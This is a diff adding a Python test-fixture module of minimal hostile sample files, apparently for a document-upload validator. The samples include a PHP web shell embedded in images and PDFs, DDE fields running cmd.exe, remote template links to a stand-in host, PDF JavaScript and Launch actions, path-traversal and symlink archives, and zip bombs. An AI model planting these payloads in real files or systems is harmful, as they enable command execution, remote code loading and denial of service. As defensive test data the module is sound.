@@ -1,0 +1,293 @@
+"""Files made to harm, each the smallest of its kind: `HOSTILE` by what they are, with their name and what is said."""
+
+import struct
+import zipfile
+import zlib
+from io import BytesIO
+from pathlib import Path
+
+from tests.tickets.genuine import (
+    JPEG,
+    PDF,
+    SHEET_MAIN,
+    doc,
+    docx,
+    frame,
+    ole,
+    package,
+    packed,
+    pdf,
+    relationships,
+    stream,
+    xls,
+    xlsx,
+)
+
+SAMPLES = Path(__file__).with_name("samples")
+EXE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00\x4c\x01" + bytes(200)
+PHP = b"<?php system($_GET['c']); ?>"
+INSTALLER = bytes.fromhex("84100c0000000000c000000000000046")
+SCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
+DTD = '<!DOCTYPE Types [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+
+
+def native(name: str, content: bytes) -> bytes:
+    """A file put into a document as an icon."""
+    path = name.encode() + b"\0"
+    inner = b"\2\0" + path + path + b"\0\0\3\0" + struct.pack("<L", len(path)) + path
+    body = inner + struct.pack("<L", len(content)) + content
+    return struct.pack("<L", len(body)) + body
+
+
+def field(instruction: str) -> bytes:
+    """A document whose text has that field."""
+    return f"<w:document><w:instrText>{instruction}</w:instrText></w:document>".encode()
+
+
+def edited(content: bytes, mark: bytes, at: int, value: bytes) -> bytes:
+    """Bytes `at` behind each `mark` replaced."""
+    changed = bytearray(content)
+    place = content.find(mark)
+    while place >= 0:
+        changed[place + at : place + at + len(value)] = value
+        place = content.find(mark, place + 1)
+    return bytes(changed)
+
+
+def object_stream(*objects: bytes, entries: bytes = b"", pack: bool = True) -> bytes:
+    """A PDF with those objects hidden in a stream."""
+    text, table = b"", b""
+    for number, each in enumerate(objects, 10):
+        table += b"%d %d " % (number, len(text))
+        text += each + b"\n"
+    data = zlib.compress(table + text) if pack else table + text
+    filters = b"/Filter /FlateDecode " if pack else b""
+    about = b"/Type /ObjStm /N %d /First %d " % (len(objects), len(table))
+    return pdf(stream(data, about + filters + entries))
+
+
+def bomb(unpacked: int) -> bytes:
+    """A document with one part of that many nils."""
+    return docx(word__big_dot_xml=bytes(unpacked))
+
+
+def gigabyte() -> bytes:
+    """One that unpacks to a gigabyte, made without holding it."""
+    buffer = BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in package().items():
+            archive.writestr(name, content)
+        with archive.open("word/big.bin", "w") as part:
+            for _turn in range(1024):
+                part.write(bytes(1024 * 1024))
+    return buffer.getvalue()
+
+
+def lying(content: bytes) -> bytes:
+    """The same with a directory that gives its last part 100 bytes."""
+    line, size = content.rfind(b"PK\1\2"), struct.pack("<L", 100)
+    return content[: line + 24] + size + content[line + 28 :]
+
+
+def many_entries(count: int) -> bytes:
+    return packed(package(extra={f"p{number}": b"" for number in range(count)}), zipfile.ZIP_STORED)
+
+
+def overlapping() -> bytes:
+    """A part that holds another, header and all, to which the directory points as well."""
+    inner = packed({"word/b.xml": bytes(300_000)})
+    line = inner.find(b"PK\1\2")
+    outer = packed(package(extra={"word/a.bin": inner[:line]}), zipfile.ZIP_STORED)
+    start, end = outer.find(b"PK\1\2"), outer.rfind(b"PK\5\6")
+    entry = inner[line : inner.rfind(b"PK\5\6")]
+    entry = entry[:42] + struct.pack("<L", outer.find(inner[:line])) + entry[46:]
+    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 5, 5, end - start + len(entry), start, 0)
+    return outer[:end] + entry + tail
+
+
+def with_flag(name: str, flag: int) -> bytes:
+    content = docx(word__a_dot_xml=b"<a/>")
+    return edited(content, b"PK\1\2", {"flags": 8, "method": 10}[name], struct.pack("<H", flag))
+
+
+def link() -> bytes:
+    """A package with a symbolic link."""
+    info = zipfile.ZipInfo("word/link.xml")
+    info.create_system, info.external_attr = 3, 0o120777 << 16
+    buffer = BytesIO(docx())
+    with zipfile.ZipFile(buffer, "a") as archive:
+        archive.writestr(info, "/etc/passwd")
+    return buffer.getvalue()
+
+
+def twice(name: str) -> bytes:
+    """Two parts of the same name but for their case."""
+    return packed(package(extra={name: b"<a/>", name.upper(): b"<b/>"}))
+
+
+def external(kind: str, target: str) -> bytes:
+    return docx(word___rels__document_dot_xml_dot_rels=relationships((kind, target, "External")))
+
+
+def typed(part: str, content_type: str) -> bytes:
+    """A workbook with a further part of that type."""
+    types = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
+    return packed(package(SHEET_MAIN, part="xl/workbook.xml", types=types, extra={part: b"<a/>"}))
+
+
+MACRO_SHEET = "application/vnd.ms-excel.macrosheet+xml"
+MACROS, PROGRAM, DAMAGED = "contiene macros", "un programa", "no se puede leer"
+LOCKED, OVERSIZED, REMOTE = "con contraseña", "demasiado", "de otro equipo"
+SCRIPTED, COMMANDS, TWOFOLD = "JavaScript", "DDE", "también otro tipo"
+
+HOSTILE: dict[str, tuple[str, bytes, str]] = {
+    "vba": ("a.docx", docx(word__vbaProject_dot_bin=b"x"), MACROS),
+    "vba elsewhere": ("a.xlsx", xlsx(xl__other__vbaProject_dot_bin=b"x"), MACROS),
+    "macro document": ("a.docx", packed(package("application/vnd.ms-word.document.macroEnabled.main+xml")), MACROS),
+    "macro sheet": ("a.xlsx", typed("xl/macrosheets/sheet1.xml", MACRO_SHEET), MACROS),
+    "binary workbook": ("a.xlsx", typed("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.main"), MACROS),
+    "activex": ("a.docx", docx(word__activeX__activeX1_dot_xml=b"<a/>"), "ActiveX"),
+    "exe by name": ("a.docx", docx(word__media__a_dot_exe=b"x"), PROGRAM),
+    "script by name": ("a.xlsx", xlsx(xl__a_dot_vbs=b"x"), PROGRAM),
+    "exe by content": ("a.docx", docx(word__media__image1_dot_png=EXE), PROGRAM),
+    "exe in an icon": (
+        "a.docx",
+        docx(word__embeddings__o_dot_bin=ole({"\1Ole10Native": native("a.txt", EXE)})),
+        PROGRAM,
+    ),
+    "macros in a sheet inside": (
+        "a.docx",
+        docx(word__embeddings__a_dot_xlsx=xlsx(xl__vbaProject_dot_bin=b"x")),
+        MACROS,
+    ),
+    "macros in an old sheet inside": (
+        "a.docx",
+        docx(word__o_dot_bin=xls(streams={"_VBA_PROJECT_CUR/VBA/dir": b"x"})),
+        MACROS,
+    ),
+    "remote template": ("a.docx", external("attachedTemplate", "https://malo.example/a.dotm"), REMOTE),
+    "template on a share": ("a.docx", external("attachedTemplate", "\\\\malo.example\\a\\a.dotm"), REMOTE),
+    "template on a share, as address": ("a.docx", external("attachedTemplate", "file://malo.example/a.dotm"), REMOTE),
+    "remote object": (
+        "a.docx",
+        external("oleObject", "mhtml:https://malo.example/a!x-usc:https://malo.example/a"),
+        REMOTE,
+    ),
+    "remote frame": ("a.docx", external("frame", "http://malo.example/"), REMOTE),
+    "dde": ("a.docx", docx(word__a_dot_xml=field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), COMMANDS),
+    "dde in pieces": ("a.docx", docx(word__a_dot_xml=field(' D</w:instrText><w:instrText>DE "cmd"')), COMMANDS),
+    "dde as simple field": (
+        "a.docx",
+        docx(word__a_dot_xml=b"<w:fldSimple w:dirty='true' w:instr='DDE cmd'/>"),
+        COMMANDS,
+    ),
+    "dde link": ("a.xlsx", xlsx(xl__externalLinks__e_dot_xml=b'<x:ddeLink ddeService="cmd"/>'), COMMANDS),
+    "entities": ("a.docx", packed(package(head=DTD)), DAMAGED),
+    "entities elsewhere": ("a.xlsx", xlsx(xl__sharedStrings_dot_xml=DTD.encode()), DAMAGED),
+    "entities in 16 bits": ("a.xlsx", xlsx(xl__sharedStrings_dot_xml=DTD.encode("utf-16")), DAMAGED),
+    "no relationships": ("a.docx", packed({"[Content_Types].xml": package()["[Content_Types].xml"]}), "parece un"),
+    "other root": ("a.docx", packed({**package(), "word/document.xml": b"<html/>"}), ""),
+    "password in the zip": ("a.docx", with_flag("flags", 1), LOCKED),
+    "other compression": ("a.docx", with_flag("method", 14), DAMAGED),
+    "symbolic link": ("a.docx", link(), DAMAGED),
+    "absolute name": ("a.docx", packed(package(extra={"/etc/a.xml": b"<a/>"})), DAMAGED),
+    "drive in a name": ("a.docx", packed(package(extra={"c:/a.xml": b"<a/>"})), DAMAGED),
+    "name that climbs": ("a.docx", packed(package(extra={"word/../../a.xml": b"<a/>"})), DAMAGED),
+    "name that climbs backwards": ("a.docx", packed(package(extra={"word\\..\\..\\a.xml": b"<a/>"})), DAMAGED),
+    "same name twice": ("a.docx", twice("word/a.xml"), DAMAGED),
+    "names that differ": ("a.docx", edited(docx(word__a_dot_xml=b"<a/>"), b"PK\3\4", 30, b"X"), DAMAGED),
+    "something after the end": ("a.docx", docx() + b"x" * 17, DAMAGED),
+    "two kinds": (
+        "a.docx",
+        packed(
+            package(
+                types=f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_MAIN}"/>',
+                extra={"xl/workbook.xml": b"<workbook/>"},
+            )
+        ),
+        "",
+    ),
+    "bomb": ("a.docx", bomb(30 * 1024 * 1024), OVERSIZED),
+    "bomb below the limit, by its ratio": ("a.docx", bomb(10 * 1024 * 1024), OVERSIZED),
+    "bomb that lies": ("a.docx", lying(bomb(1024 * 1024)), OVERSIZED),
+    "overlapping parts": ("a.docx", overlapping(), OVERSIZED),
+    "1,001 entries": ("a.docx", many_entries(998), OVERSIZED),
+    "old macros": ("a.doc", doc({"Macros/VBA/dir": b"x"}), MACROS),
+    "old macros of excel": ("a.xls", xls(streams={"_VBA_PROJECT_CUR/VBA/dir": b"x"}), MACROS),
+    "excel 4 macros": ("a.xls", xls(0, 1), MACROS),
+    "old password": ("a.doc", doc(flags=0x0100), LOCKED),
+    "old password of excel": ("a.xls", xls(before=struct.pack("<8H", 0x2F, 6, 0, 1, 2, 0, 0, 0)[:10]), LOCKED),
+    "encrypted package": ("a.docx", ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), LOCKED),
+    "rights management": ("a.doc", doc({"\6DataSpaces/x": b"", "\x09DRMContent": b"x"}), LOCKED),
+    "installer": ("a.doc", ole({"WordDocument": b"x"}, INSTALLER), PROGRAM),
+    "exe in an old icon": ("a.doc", doc({"ObjectPool/1/\1Ole10Native": native("a.exe", b"x")}), PROGRAM),
+    "shortcut in an old icon": ("a.xls", xls(streams={"MBD1/\1Ole10Native": native("a.lnk", b"x")}), PROGRAM),
+    "old dde": ("a.doc", doc(text=b"Hola \x13 DDEAUTO c:\\cmd.exe \x14\x15"), COMMANDS),
+    "old dde in 16 bits": ("a.doc", doc(text="\x13DDE cmd ".encode("utf-16-le")), COMMANDS),
+    "word without a header": ("a.doc", ole({"WordDocument": b"x"}), DAMAGED),
+    "powerpoint": ("a.doc", ole({"PowerPoint Document": b"x"}), ""),
+    "two old kinds": ("a.doc", ole({"WordDocument": b"\xec\xa5", "Workbook": b"\x09\x08"}), ""),
+    "javascript": ("a.pdf", pdf(catalogue=SCRIPT), SCRIPTED),
+    "javascript with coded names": (
+        "a.pdf",
+        pdf(catalogue=SCRIPT.replace(b"JavaS", b"#4aava#53").replace(b"/JS", b"/J#53")),
+        SCRIPTED,
+    ),
+    "javascript by reference": (
+        "a.pdf",
+        pdf(b"/JavaScript", catalogue=b"/OpenAction << /S 4 0 R /JS 5 0 R >>"),
+        SCRIPTED,
+    ),
+    "javascript in an object stream": ("a.pdf", object_stream(b"<< " + SCRIPT + b" >>"), SCRIPTED),
+    "javascript in a plain object stream": ("a.pdf", object_stream(b"<< " + SCRIPT + b" >>", pack=False), SCRIPTED),
+    "javascript behind a false end": ("a.pdf", pdf(b"<< /A (1 0 obj << >> stream ) " + SCRIPT + b" >>"), SCRIPTED),
+    "javascript behind a comment": ("a.pdf", pdf(b"<< % endobj stream (\n" + SCRIPT + b" >>"), SCRIPTED),
+    "javascript in a text that is none": ("a.pdf", pdf(b"(", b"<< " + SCRIPT + b" >>", b")"), SCRIPTED),
+    "javascript in a stream that is none": (
+        "a.pdf",
+        pdf(b"<< >> stream", b"<< " + SCRIPT + b" >>", b"endstream"),
+        SCRIPTED,
+    ),
+    "object stream of another packing": ("a.pdf", object_stream(b"<< >>", entries=b"/F /LZWDecode "), DAMAGED),
+    "launch": ("a.pdf", pdf(catalogue=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "abre otros archivos"),
+    "exe attached to a pdf": ("a.pdf", pdf(b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"), PROGRAM),
+    "exe attached by its bytes": (
+        "a.pdf",
+        pdf(stream(zlib.compress(EXE), b"/Type /EmbeddedFile /Filter /FlateDecode")),
+        PROGRAM,
+    ),
+    "pdf after a page": ("a.pdf", b"<html><script>alert(1)</script>" + bytes(200) + PDF, ""),
+    "pdf after php": ("a.pdf", PHP + PDF, TWOFOLD),
+    "pdf after an exe": ("a.pdf", EXE + PDF, ""),
+    "pdf and zip": ("a.pdf", PDF + packed({"a.txt": b"a"}), TWOFOLD),
+    "pdf and page": ("a.pdf", PDF + b"<html><script>alert(1)</script>", TWOFOLD),
+    "pdf and exe": ("a.pdf", PDF + EXE, TWOFOLD),
+    "pdf without an end": ("a.pdf", PDF[:-30], DAMAGED),
+    "pdf without objects": ("a.pdf", b"%PDF-1.4\n%%EOF\n", DAMAGED),
+    "pdf for a shop's program": ("a.pdf", pdf(b"<< /Filter /FOPN_foweb /V 1 >>", trailer=b"/Encrypt 4 0 R"), LOCKED),
+    "page as picture": ("a.jpg", b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>", DAMAGED),
+    "php in a picture": ("a.jpg", JPEG[:20] + b"\xff\xfe\x00\x1e" + PHP + JPEG[20:], TWOFOLD),
+    "php after a picture": ("a.jpg", JPEG + PHP, TWOFOLD),
+    "zip after a picture": ("a.jpg", JPEG + packed({"a.exe": EXE}), TWOFOLD),
+    "pdf in a picture": ("a.jpg", JPEG[:20] + b"\xff\xfe\x01\x00" + PDF[:200] + bytes(54) + JPEG[20:], TWOFOLD),
+    "picture of 144 megapixels": ("a.jpg", frame(12_000, 12_000), "40 megapíxeles"),
+    "progressive picture of 144 megapixels": ("a.jpg", frame(12_000, 12_000, 0xC2), "40 megapíxeles"),
+    "picture without a size": ("a.jpg", frame(0, 0), DAMAGED),
+    "picture without an image": ("a.jpg", JPEG[:-12], DAMAGED),
+}
+
+
+def object_bomb() -> bytes:
+    packer = zlib.compressobj(9)
+    data = packer.compress(b"4 0 ") + b"".join(packer.compress(bytes(1024 * 1024)) for _turn in range(1024))
+    return pdf(stream(data + packer.flush(), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"))
+
+
+# Of some size: made when asked for
+BOMBS = {
+    "1 GB in 1 MB": ("a.docx", gigabyte, OVERSIZED),
+    "18,000 entries": ("a.docx", lambda: many_entries(18_000), OVERSIZED),
+    "overlapping members": ("a.docx", overlapping, OVERSIZED),
+    "a gigabyte in an object stream": ("a.pdf", object_bomb, OVERSIZED),
+    "picture of 144 megapixels": ("a.jpg", lambda: frame(12_000, 12_000) + bytes(1_700_000), "40 megapíxeles"),
+}
